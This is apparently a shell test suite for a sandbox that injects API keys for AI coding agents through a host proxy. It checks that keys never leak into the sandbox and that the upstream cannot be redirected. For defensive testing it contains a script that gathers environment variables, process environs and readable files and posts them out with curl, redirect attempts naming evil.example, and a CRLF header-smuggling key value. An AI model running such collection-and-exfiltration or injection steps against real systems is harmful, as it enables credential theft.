#!/bin/sh
# Credential injection: the sandbox gets a placeholder and a local endpoint,
# the proxy on the host adds the real key on the way to the credential's
# fixed upstream over TLS. The upstream is a loopback TLS stand-in
# (tls-standin.py) with a test CA made here, reached through a
# network.resolve pin given by --resolve; it records the request heads it
# receives. Also --localhost and --resolve on their own.
. "$(dirname "$0")/../lib.sh"

. "$(dirname "$0")/../inject-lib.sh"

test_key_reaches_upstream_in_header_when_injected()
{
	setup_upstream ok
	sbx_anthropic sh -c 'curl -sS -i --max-time 20 -d "{\"m\":1}" "$ANTHROPIC_BASE_URL/v1/messages"'
	expect_status 0
	expect_out_contains "from-upstream"
	# The upstream said keep-alive; the client is told to close.
	expect_out_contains "Connection: close"
	expect_out_lacks "keep-alive"
	expect_out_lacks "Keep-Alive"
	expect_upstream_has "x-api-key: $KEY"
	expect_upstream_has "POST /v1/messages HTTP/1.1"
	expect_upstream_has "Host: api.anthropic.com"
	# OpenAI: Bearer, and the base URL carries /v1 as its SDKs expect.
	rc=0
	OPENAI_API_KEY=$OKEY timeout 60 "$AS" --credential openai \
		--resolve "api.openai.com=127.0.0.1:$up_port" \
		sh -c 'echo "$OPENAI_BASE_URL"; curl -sS --max-time 20 -d "{}" "$OPENAI_BASE_URL/responses"' \
		>"$T/out" 2>"$T/err" </dev/null || rc=$?
	expect_status 0
	expect_out_contains "/v1"
	expect_out_contains "from-upstream"
	expect_upstream_has "Authorization: Bearer $OKEY"
	expect_upstream_has "POST /v1/responses HTTP/1.1"
	expect_upstream_has "Host: api.openai.com"
}

test_key_is_absent_from_every_environ_inside()
{
	setup_upstream ok
	# shellcheck disable=SC2016
	sbx_anthropic sh -c 'echo "key=$ANTHROPIC_API_KEY"; cat /proc/[0-9]*/environ | tr "\0" "\n"' \
		>/dev/null
	expect_status 0
	expect_out_contains "key=agent-sandbox-credential-"
	expect_out_contains "ANTHROPIC_BASE_URL=http://127.0.0.1:"
	expect_out_lacks "$KEY"
	expect_err_lacks "$KEY"
}

test_key_is_absent_from_files_and_traffic_inside()
{
	setup_upstream ok
	start_recorder
	# A copy of the key under a name the secret filter does not know:
	# it must be dropped too. The hostile inside gathers its environment,
	# every process's, and every readable small file it can find, then
	# sends it all out through --localhost, and through the injection
	# endpoint itself (which the stand-in records).
	cat >"$T/work/gather.sh" <<'EOF'
{
	env
	cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline
	find /etc /run /tmp /home "$HOME" "$PWD" -xdev -type f -readable \
		-size -256k 2>/dev/null | while read -r f; do cat "$f"; done
} >/dev/shm/all 2>/dev/null
wc -c </dev/shm/all
curl -sS --max-time 30 --data-binary @/dev/shm/all "http://127.0.0.1:$1/dump" >/dev/null
curl -sS --max-time 30 --data-binary @/dev/shm/all "$ANTHROPIC_BASE_URL/v1/messages" >/dev/null
EOF
	rc=0
	COPY_OF_IT="prefix-$KEY" ANTHROPIC_API_KEY=$KEY timeout 120 "$AS" --credential anthropic \
		--resolve "api.anthropic.com=127.0.0.1:$up_port" --localhost "$rec_port" \
		sh gather.sh "$rec_port" >"$T/out" 2>"$T/err" </dev/null || rc=$?
	expect_status 0
	[ "$(cat "$T/out")" -gt 1000 ] || fail "gathered too little: $(cat "$T/out") bytes"
	[ -s "$T/traffic" ] || fail "nothing reached the recorder"
	grep -qF "agent-sandbox-credential-" "$T/traffic" || fail "the dump lacks the placeholder: the test sees nothing"
	! grep -qF -- "$KEY" "$T/traffic" || fail "the key left the sandbox"
	grep -qF "COPY_OF_IT" "$T/traffic" && fail "a variable holding the key reached the sandbox"
	# Through the endpoint, the key appears once: in the header the
	# proxy added, never in the body the sandbox sent.
	[ "$(grep -cF -- "$KEY" "$T/upstream.log")" -eq 1 ] ||
		fail "the key appears $(grep -cF -- "$KEY" "$T/upstream.log") times at the upstream"
	expect_upstream_has "x-api-key: $KEY"
}

test_agent_sent_auth_header_is_replaced()
{
	setup_upstream ok
	sbx_anthropic sh -c 'curl -sS --max-time 20 -H "x-api-key: agent-made-up" \
		-H "Authorization: Bearer agent-bearer" -H "Proxy-Authorization: Basic eA==" \
		-H "X-API-KEY: shouty" -d "{}" "$ANTHROPIC_BASE_URL/v1/messages"'
	expect_status 0
	expect_out_contains "from-upstream"
	expect_upstream_has "x-api-key: $KEY"
	expect_upstream_lacks "agent-made-up"
	expect_upstream_lacks "agent-bearer"
	expect_upstream_lacks "shouty"
	expect_upstream_lacks "Proxy-Authorization"
	[ "$(grep -ciF "x-api-key:" "$T/upstream.log")" -eq 1 ] || fail "more than one x-api-key header"
}

test_upstream_cannot_be_redirected()
{
	setup_upstream ok
	# shellcheck disable=SC2016
	sbx_anthropic sh -c '
		curl -sS --max-time 20 -H "Host: evil.example" -d "{}" "$ANTHROPIC_BASE_URL/v1/a"; echo
		curl -sS --max-time 20 --request-target "http://evil.example/v1/b" "$ANTHROPIC_BASE_URL/"; echo
		curl -sS --max-time 20 -X CONNECT --request-target "evil.example:443" "$ANTHROPIC_BASE_URL/"; echo
		curl -sS --max-time 20 "$ANTHROPIC_BASE_URL//evil.example/v1/c"; echo'
	expect_status 0
	expect_out_contains "from-upstream"
	expect_out_contains "origin-form"
	expect_upstream_has "POST /v1/a HTTP/1.1"
	expect_upstream_lacks "Host: evil.example"
	expect_upstream_lacks "/v1/b"
	expect_upstream_lacks "CONNECT evil"
	# A path that looks like an authority is a path at the fixed upstream.
	expect_upstream_has "GET //evil.example/v1/c HTTP/1.1"
	[ "$(grep -c "^Host: api.anthropic.com" "$T/upstream.log")" -eq 2 ] ||
		fail "expected two requests at api.anthropic.com: $(cat "$T/upstream.log")"
}

test_sse_stream_is_not_buffered()
{
	setup_upstream sse "" "$T/work/got-first"
	# The stand-in sends the second event only once the client inside
	# wrote got-first on seeing the first: a proxy that holds bytes back
	# deadlocks, and the timeout fails the test.
	# shellcheck disable=SC2016
	sbx_anthropic sh -c 'curl -sSN --max-time 30 -d "{}" "$ANTHROPIC_BASE_URL/v1/messages" |
		while IFS= read -r line; do
			case $line in
			*first*) : >got-first ;;
			*second*) echo "got both"; exit 0 ;;
			esac
		done'
	expect_status 0
	expect_out_contains "got both"
}

test_certificate_is_verified()
{
	setup_upstream ok other
	sbx_anthropic sh -c 'curl -sS --max-time 20 -i -d "{}" "$ANTHROPIC_BASE_URL/v1/messages"'
	expect_out_contains "502"
	expect_out_contains "not trusted"
	expect_out_lacks "from-upstream"
	grep -qF "TLS-FAILED" "$T/upstream.log" || fail "the stand-in saw no refused handshake"
	expect_upstream_lacks "$KEY"
	log="$HOME/.local/state/agent-sandbox/audit.jsonl"
	grep '"credential"' "$log" | grep -q '"status": *502' ||
		fail "no audit record of the refused request: $(grep network "$log" | tail -3)"
	! grep -qF -- "$KEY" "$log" || fail "the key is in the audit log"
	sbx log
	expect_out_contains "key of anthropic, status 502"
	expect_out_contains "not trusted"
}

test_network_deny_refuses_the_upstream()
{
	setup_upstream ok
	cat >"$HOME/.config/agent-sandbox/config.json" <<EOF
{"credentials": {"anthropic": {"ca": "$T/pki/ca.pem"}},
 "network": {"deny": ["api.anthropic.com"]}}
EOF
	sbx_anthropic sh -c 'curl -sS --max-time 20 -i -d "{}" "$ANTHROPIC_BASE_URL/v1/messages"'
	expect_out_contains "403"
	expect_out_contains "network.deny"
	[ ! -s "$T/upstream.log" ] || fail "a denied upstream was reached"
}

test_credentials_in_project_config_are_refused()
{
	echo '{"credentials": {"anthropic": {"env": "ANTHROPIC_API_KEY"}}}' >.agent-sandbox.json
	: >"$T/ran"
	rm "$T/ran"
	ANTHROPIC_API_KEY=$KEY sbx touch "$T/ran"
	expect_status 2
	expect_err_contains "belong in your global config"
	expect_err_contains ".agent-sandbox.json:1:"
	expect_no_file "$T/ran"
	# --config is not the global config either.
	echo '{"credentials": {"x": {"file": "/etc/hostname", "hosts": ["api.x.example"]}}}' >"$T/c.json"
	sbx --config "$T/c.json" true
	expect_status 2
	expect_err_contains "belong in your global config"
}

test_missing_key_is_an_error()
{
	make_certs
	global_config
	unset ANTHROPIC_API_KEY
	sbx --credential anthropic touch "$T/ran"
	expect_status 2
	expect_err_contains "ANTHROPIC_API_KEY is not set"
	expect_no_file "$T/ran"
	# A key that could end the header line is refused, not sent.
	ANTHROPIC_API_KEY=$(printf 'sk-a\r\nX-Evil: 1') sbx --credential anthropic touch "$T/ran"
	expect_status 2
	expect_err_contains "cannot be sent in a header"
	expect_no_file "$T/ran"
	sbx --credential nosuch touch "$T/ran"
	expect_status 2
	expect_err_contains "unknown credential \"nosuch\""
	expect_no_file "$T/ran"
	# An empty key file is no key either.
	: >"$T/keyfile"
	cat >"$HOME/.config/agent-sandbox/config.json" <<EOF
{"credentials": {"x": {"file": "$T/keyfile", "hosts": ["api.x.example"]}}}
EOF
	sbx --credential x touch "$T/ran"
	expect_status 2
	expect_err_contains "empty"
	expect_no_file "$T/ran"
}

test_key_file_is_hidden_inside_and_injected()
{
	make_certs
	start_standin ok
	printf '%s\n' "$KEY" >"$HOME/x.key"
	mkdir -p "$HOME/.config/agent-sandbox"
	cat >"$HOME/.config/agent-sandbox/config.json" <<EOF
{"credentials": {"x": {"file": "~/x.key", "hosts": ["api.x.example"],
                       "header": "X-Custom-Key", "base-url-env": "X_BASE_URL",
                       "ca": "$T/pki/ca.pem"}}}
EOF
	# The certificate does not name api.x.example: the request fails, but
	# only after the key file was read on the host.
	sbx --credential x --resolve "api.x.example=127.0.0.1:$up_port" --rw "$HOME" \
		sh -c 'cat ~/x.key; echo "url=$X_BASE_URL"; curl -sS --max-time 20 -d "{}" "$X_BASE_URL/q"'
	expect_out_lacks "$KEY"
	expect_out_contains "url=http://127.0.0.1:"
	expect_out_contains "not trusted"
	expect_upstream_lacks "$KEY"
}

# The agent's own login for the same account is as good as the key.
test_stored_login_is_hidden_while_its_key_is_injected()
{
	mkdir -p "$HOME/.claude" "$HOME/.codex"
	echo '{"claudeAiOauth":{"accessToken":"oauth-token-anthropic"}}' >"$HOME/.claude/.credentials.json"
	echo '{"tokens":{"access_token":"oauth-token-openai"}}' >"$HOME/.codex/auth.json"
	ANTHROPIC_API_KEY=$KEY OPENAI_API_KEY=$KEY sbx --credential anthropic --credential openai \
		sh -c 'cat ~/.claude/.credentials.json ~/.codex/auth.json; echo done'
	expect_status 0
	expect_out "done"
	# Without injection the agents keep their login as before.
	sbx cat "$HOME/.claude/.credentials.json"
	expect_out_contains "oauth-token-anthropic"
	expect_content "$HOME/.codex/auth.json" '{"tokens":{"access_token":"oauth-token-openai"}}'
}

test_localhost_flag_reaches_host_port()
{
	mkdir "$T/site"
	echo "hello from the host" >"$T/site/hello.txt"
	start_http_server "$T/site"
	sbx --localhost "$http_port" curl -sS --max-time 10 "http://127.0.0.1:$http_port/hello.txt"
	expect_status 0
	expect_out "hello from the host"
	# Without the flag the port is not reachable.
	sbx curl -sS --max-time 10 "http://127.0.0.1:$http_port/hello.txt"
	[ "$rc" -ne 0 ] || fail "the port was reachable without --localhost"
}

test_base_url_on_an_unforwarded_loopback_port_is_named()
{
	# An agent pointed at an API on the host's loopback retries for
	# minutes against nothing: the run says so before it starts.
	ANTHROPIC_BASE_URL=http://127.0.0.1:8089/v1 sbx true
	expect_status 0
	expect_err_contains "ANTHROPIC_BASE_URL names the host's loopback port 8089, which the sandbox does not reach: --localhost 8089 forwards it"
	OPENAI_BASE_URL=http://localhost:8089 sbx --localhost 8089 true
	expect_status 0
	expect_err_lacks "loopback port"
	# Another host, or a name that only starts like localhost: nothing.
	OPENAI_BASE_URL=http://localhost.example.com:8089 sbx true
	expect_err_lacks "loopback port"
	# The host network reaches the loopback itself.
	OPENAI_BASE_URL=http://127.0.0.1:8089 sbx --network=true true
	expect_err_lacks "loopback port"
}

test_resolve_flag_pins_name()
{
	mkdir "$T/site"
	echo "pinned page" >"$T/site/p.txt"
	start_http_server "$T/site"
	sbx --resolve "pinned.test=127.0.0.1:$http_port" --allow-host pinned.test \
		curl -sS --max-time 10 "http://pinned.test:$http_port/p.txt"
	expect_status 0
	expect_out "pinned page"
	# The pin opens that port only.
	sbx --resolve "pinned.test=127.0.0.1:$http_port" --allow-host pinned.test \
		curl -fsS --max-time 10 "http://pinned.test:1/p.txt"
	[ "$rc" -ne 0 ] || fail "a pinned name reached another port"
	expect_out_lacks "pinned page"
}

test_policy_names_the_credential_and_never_the_key()
{
	make_certs
	global_config
	rc=0
	GH_TOKEN=$GKEY "$AS" policy --credential github >"$T/out" 2>"$T/err" || rc=$?
	expect_status 0
	expect_out_contains "key from GITHUB_TOKEN or GH_TOKEN, added for https://github.com"
	expect_out_contains "(git's url.insteadOf)"
	expect_out_contains "added for https://api.github.com"
	expect_out_lacks "$GKEY"
	expect_err_lacks "$GKEY"
}

test_bad_flag_values_are_usage_errors()
{
	for v in 0 65536 abc 80x ""; do
		sbx --localhost "$v" true
		expect_status 2
		expect_err_contains "--localhost"
	done
	for v in nopin name= =127.0.0.1 name=not-an-ip 127.0.0.1=127.0.0.1 "name=1.2.3.4:99999"; do
		sbx --resolve "$v" true
		expect_status 2
		expect_err_contains "NAME=ADDR[:PORT]"
	done
	sbx --credential 'Bad Name' true
	expect_status 2
	expect_err_contains "expected a credential name"
	sbx --credential anthropic --network=true true
	expect_status 2
	expect_err_contains "cannot be combined"
}

test_git_https_gets_basic_auth()
{
	setup_upstream 401
	rc=0
	GITHUB_TOKEN=$GKEY timeout 60 "$AS" --credential github \
		--resolve "github.com=127.0.0.1:$up_port" \
		sh -c 'env | grep -c "$GITHUB_TOKEN" >/dev/null; git clone -q https://github.com/x/y.git y' \
		>"$T/out" 2>"$T/err" </dev/null || rc=$?
	expected=$(printf 'x-access-token:%s' "$GKEY" | base64 | tr -d '\n')
	expect_upstream_has "Authorization: Basic $expected"
	expect_upstream_has "GET /x/y.git/info/refs?service=git-upload-pack HTTP/1.1"
	expect_upstream_has "Host: github.com"
	expect_err_lacks "$GKEY"
}

# The real CLIs (tests/install-deps puts them in /opt/agent-clis) against
# the agents' API stand-in (tests/agents/standin.py) over TLS, which answers
# 401 to any key but the real one: the agent completes only because the
# proxy added the key it never held.
AGENT_CLIS=${AGENT_CLIS:-/opt/agent-clis}
CLAUDE=$AGENT_CLIS/node_modules/@anthropic-ai/claude-code-linux-x64/claude
CODEX=$AGENT_CLIS/node_modules/@openai/codex-linux-x64/vendor/x86_64-unknown-linux-musl/bin/codex
API_STANDIN=$(cd "$(dirname "$0")/../agents" && pwd)/standin.py

start_api_standin()
{
	[ -x "$CLAUDE" ] && [ -x "$CODEX" ] || skip "the agent CLIs are not in $AGENT_CLIS"
	make_certs
	global_config
	py "$API_STANDIN" --port-file "$T/api.port" \
		--record "$T/requests.jsonl" --api-key "$1" --cert "$T/pki/srv.pem" \
		--key "$T/pki/srv.key" >"$T/api.log" 2>&1 &
	echo $! >>"$T/pids"
	for _ in $(seq 200); do
		[ -s "$T/api.port" ] && break
		sleep 0.05
	done
	api_port=$(cat "$T/api.port" 2>/dev/null) || fail "the API stand-in did not start"
}

test_claude_code_completes_with_a_key_it_never_holds()
{
	start_api_standin "$KEY"
	rc=0
	ANTHROPIC_API_KEY=$KEY CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 timeout 120 "$AS" \
		--credential anthropic --resolve "api.anthropic.com=127.0.0.1:$api_port" \
		-- "$CLAUDE" --print --output-format stream-json --verbose "say hi" \
		>"$T/out" 2>"$T/err" </dev/null || rc=$?
	expect_status 0
	expect_out_contains "hello from the stand-in"
	grep -qF "\"x-api-key\": \"$KEY\"" "$T/requests.jsonl" || fail "no request carried the key"
	! grep -qF "agent-sandbox-credential-" "$T/requests.jsonl" || fail "the placeholder reached the API"
}

test_codex_completes_with_a_key_it_never_holds()
{
	start_api_standin "$OKEY"
	rc=0
	# No provider options of the test's own: the codex profile points
	# Codex at the endpoint when the openai credential is injected, and
	# makes its state directory on this fresh home.
	OPENAI_API_KEY=$OKEY timeout 120 "$AS" --debug --credential openai \
		--resolve "api.openai.com=127.0.0.1:$api_port" -- "$CODEX" exec --skip-git-repo-check \
		-c analytics.enabled=false -c check_for_update_on_startup=false --disable plugins \
		"say hi" >"$T/out" 2>"$T/err" </dev/null || rc=$?
	expect_status 0
	expect_out_contains "hello from the stand-in"
	expect_err_contains "arguments added after"
	grep -qF "\"authorization\": \"Bearer $OKEY\"" "$T/requests.jsonl" || fail "no request carried the key"
	! grep -qF "$OKEY" "$HOME/.codex" -r || fail "the key was saved in Codex's state"
}

run_tests
